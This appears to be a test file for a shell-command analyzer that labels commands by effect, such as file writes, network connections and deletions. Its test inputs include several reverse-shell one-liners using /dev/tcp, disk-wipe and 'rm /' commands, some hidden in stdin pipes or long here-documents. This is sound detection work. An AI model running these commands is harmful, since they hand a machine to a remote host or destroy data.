import { describe, expect, it } from 'vitest';
import { analyze, effectsOf } from './shell.ts';

describe('redirections', () => {
  it.each([
    ['ls > out', ['file.write /home/ada/code/shop/out truncate']],
    ['ls >> out', ['file.append /home/ada/code/shop/out append']],
    ['ls &> out', ['file.write /home/ada/code/shop/out truncate']],
    ['ls >| out', ['file.write /home/ada/code/shop/out truncate']],
    ['cat < in', ['file.read /home/ada/code/shop/in']],
    ['> out', ['file.write /home/ada/code/shop/out truncate']],
    ['{ ls; ls; } > /etc/x', ['file.write /etc/x truncate']],
    ['for f in a; do ls; done > "$HOME/x"', ['file.write /home/ada/x truncate']],
    ['cd /etc && ls > x', ['file.write /etc/x truncate']],
    ['ls > /dev/sda', ['storage.wipe /dev/sda']],
  ])('%s', (text, expected) => {
    expect(effectsOf(text)).toEqual(expected);
  });

  it.each([['ls > /dev/null 2>&1'], ['ls 2>/dev/null >&2'], ['ls < /dev/null'], ['ls > /dev/stderr'], ['ls 2>&-']])(
    '%s touches nothing',
    (text) => {
      expect(effectsOf(text)).toEqual([]);
    },
  );

  it('to the network are connections', () => {
    const [first] = effectsOf('ls > /dev/tcp/10.0.0.9/443');
    expect(first).toMatch(/^net\.request .*raw-socket$/);
  });

  it.each([
    ['bash -i >& /dev/tcp/10.0.0.9/443 0>&1'],
    ['sh -i 5<> /dev/tcp/10.0.0.9/443 0<&5 1>&5'],
    ['exec 5<> /dev/tcp/10.0.0.9/443; sh <&5 >&5'],
    ['0<&196; exec 196<> /dev/tcp/10.0.0.9/443; bash <&196 >&196 2>&196'],
  ])('%s hands a shell to another machine', (text) => {
    expect(effectsOf(text)).toContainEqual(expect.stringMatching(/^net\.request .*raw-socket reverse-shell$/));
  });
});

describe('a descriptor', () => {
  it.each([
    ['exec 3< ~/x; cat <&3', ['file.read /home/ada/x', 'file.read /dev/fd/3']],
    ['{ cat <&4; } 4< ~/x', ['file.read /home/ada/x', 'file.read /dev/fd/4']],
  ])('hands on what it was opened for: %s', (text, expected) => {
    const { actions, edges } = analyze(text);
    expect(effectsOf(text)).toEqual(expected);
    const reads = (path: string) => actions.findIndex((action) => action.effects.some((effect) => effect.operand?.value === path));
    expect(edges).toContainEqual({ from: reads('/home/ada/x'), to: reads(expected[1]?.slice('file.read '.length) ?? '') });
  });

  it.each([['. /dev/stdin <<< "rm /"'], ['echo rm / | bash /dev/stdin'], ['bash /dev/fd/0 <<< "rm /"']])(
    'of standard input is a script: %s',
    (text) => {
      expect(effectsOf(text)).toContain('file.delete /');
    },
  );
});

describe('a here-document beyond 256 KiB', () => {
  const comment = `# ${'a'.repeat(1021)}\n`;
  const long = (text: string, mark = 'X') => `sh <<${mark}\n${comment.repeat(260)}${text}\nX`;

  it.each([
    ['is followed where nothing in it expands', long('rm /'), 'file.delete /'],
    ['is followed where it is quoted', long('rm / # $(ls)', "'X'"), 'file.delete /'],
    ['is not known where a variable stands in it', long('rm $HOME'), 'code.eval dynamic'],
  ])('%s', (_, text, effect) => {
    expect(effectsOf(text)).toContain(effect);
    expect(analyze(text).incomplete).toEqual([]);
  });

  it.each([['rm $(echo /)'], ['rm `echo /`']])('is told of where a command stands in it: %s', (text) => {
    expect(analyze(long(text)).incomplete).toEqual(['a here-document with substitutions is too long']);
  });

  it('is followed up to there', () => {
    const text = `sh <<X\n${comment.repeat(250)}rm $(echo /)\nX`;
    expect(effectsOf(text)).toContain('file.delete /');
  });
});
